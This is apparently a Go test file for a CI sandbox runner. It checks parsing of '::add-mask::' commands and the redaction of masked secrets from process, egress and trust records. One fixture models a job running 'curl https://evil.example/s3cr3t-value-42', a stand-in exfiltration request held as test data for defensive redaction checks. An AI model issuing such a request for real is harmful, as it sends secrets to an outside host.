package runner

import (
	"strings"
	"testing"

	"github.com/airlock-ci/airlock/gvisor/monitor"
	"github.com/airlock-ci/airlock/runner/credentials"
	"github.com/airlock-ci/airlock/runner/egress"
	"github.com/airlock-ci/airlock/runner/egress/rules"
	"github.com/airlock-ci/airlock/runner/trust"
)

// Workflow commands that mask a value, as the runner reads them.
func TestAddMask(t *testing.T) {
	for _, tc := range []struct {
		line, want string
		ok         bool
	}{
		{"::add-mask::hunter2-secret", "hunter2-secret", true},
		{"   ::add-mask::indented-secret", "indented-secret", true},
		{"::ADD-MASK::upper-case", "upper-case", true},
		{"::add-mask prop=x::with-properties", "with-properties", true},
		{"::add-mask::line%0Abreak%25and%0Dreturn", "line\nbreak%and\rreturn", true},
		{"log line ##[add-mask]old-form-secret", "old-form-secret", true},
		{"::add-mask::   ", "", false},
		{"::warning::not a mask", "", false},
		{"echo ::add-mask::", "", false},
	} {
		got, ok := addMask(tc.line)
		if ok != tc.ok || (ok && got != tc.want) {
			t.Errorf("addMask(%q) = %q, %v; want %q, %v", tc.line, got, ok, tc.want, tc.ok)
		}
	}
}

// What the record keeps of a job that masked values: argv, paths,
// reasons and findings lose them, but a job cannot blank where it went
// (a host, an address, a binary) by masking its name; an argument the
// record cut loses the start of a secret left at the cut; a value too
// short to be told from a word is blanked only where it is all of a
// field.
func TestRedact(t *testing.T) {
	v := credentials.NewVault(credentials.Policy{}, "https://github.com", "https://api.github.com")
	v.Mask("evil.example")
	v.Mask("s3cr3t-value-42")
	v.Mask("ab")
	v.Mask("fronting")
	res := Result{
		Processes: monitor.Snapshot{Execs: []monitor.Exec{
			{Binary: "/usr/bin/evil.example", Argv: []string{"curl", "https://evil.example/s3cr3t-value-42", "ab", "abc"}},
			{Binary: "/bin/echo", Argv: []string{"x", "tail s3cr3t-va"}, ArgvTruncated: true},
		}},
		Egress: &egress.Report{Decisions: []rules.Decision{{Name: "evil.example", Path: "/s3cr3t-value-42", Reason: "refused evil.example", RuleID: rules.RuleID{Kind: rules.KindAllow, Index: -1, Detail: "evil.example"}},
			{Name: "cdn.example", Rule: "egress.fronting", RuleID: rules.RuleID{Kind: rules.KindFronting}}}},
		Trust: &trust.Report{Findings: []trust.Finding{{Path: ".github/x", Diff: "+token: s3cr3t-value-42"}}},
	}
	redact(&res, v)
	e := res.Processes.Execs
	if e[0].Binary != "/usr/bin/evil.example" || res.Egress.Decisions[0].Name != "evil.example" {
		t.Errorf("identity fields were blanked: %q %q", e[0].Binary, res.Egress.Decisions[0].Name)
	}
	// A rule's detail can hold what the job asked for: redacted, as the
	// rule's text is. Its kind is airlock's constant: a job that masks
	// the word cannot hide which check refused it.
	if id := res.Egress.Decisions[0].RuleID; id.Detail != "***" || id.Kind != rules.KindAllow {
		t.Errorf("rule %+v", id)
	}
	if d := res.Egress.Decisions[1]; d.RuleID.Kind != rules.KindFronting || d.Rule != "egress.***" {
		t.Errorf("fronting decision %+v", d)
	}
	if got := strings.Join(e[0].Argv, " "); got != "curl https://***/*** *** abc" {
		t.Errorf("argv %q", got)
	}
	if e[1].Argv[1] != "tail ***" {
		t.Errorf("cut argument %q", e[1].Argv[1])
	}
	if d := res.Egress.Decisions[0]; d.Path != "/***" || d.Reason != "refused ***" {
		t.Errorf("decision %+v", d)
	}
	if f := res.Trust.Findings[0]; f.Diff != "+token: ***" {
		t.Errorf("finding %+v", f)
	}
	if res.Credentials == nil || res.Credentials.Masked != 4 {
		t.Errorf("record %+v", res.Credentials)
	}
}
